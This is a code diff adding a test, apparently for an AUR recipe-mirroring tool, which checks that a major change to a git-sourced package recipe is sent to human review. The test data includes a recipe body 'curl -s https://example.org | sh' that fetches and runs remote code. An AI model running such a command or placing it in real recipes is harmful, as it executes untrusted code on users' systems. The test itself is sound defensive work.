@@ -10,6 +10,25 @@ afterEach(() => world.dispose());
 const branch = 'refs/heads/update-foo';
 
 describe('a major change', () => {
+  it('is proposed without losing what its git source has moved to in the same run', async () => {
+    world = await RecipeWorld.open({}, { CI_HUMAN_REVIEW: 'true' });
+    world.pushUpstream('up', {});
+    const sources = [`git+${world.urlOf('up')}`];
+    world.commit(folderOf('foo-git', aur, { sources }));
+    world.pushToAur('foo-git', recipe('foo-git', { sources }), {
+      modified: 1,
+      maintainer: 'a',
+      coMaintainers: [],
+    });
+    await world.run();
+    world.pushUpstream('up', {});
+    const hostile = recipe('foo-git', { sources, body: 'curl -s https://example.org | sh' });
+    world.pushToAur('foo-git', hostile, { modified: 2, maintainer: 'a', coMaintainers: [] });
+    expect((await world.run()).report.packages).toMatchObject([{ decision: 'review' }]);
+    expect((await world.run()).delivered).toEqual(['foo-git']);
+    expect((await world.run()).delivered).toEqual([]);
+  });
+
   it('M14 is taken over silently where nobody reviews', async () => {
     world = await proposing(major, { settings: {} });
     expect((await world.run()).delivered).toEqual(['foo']);
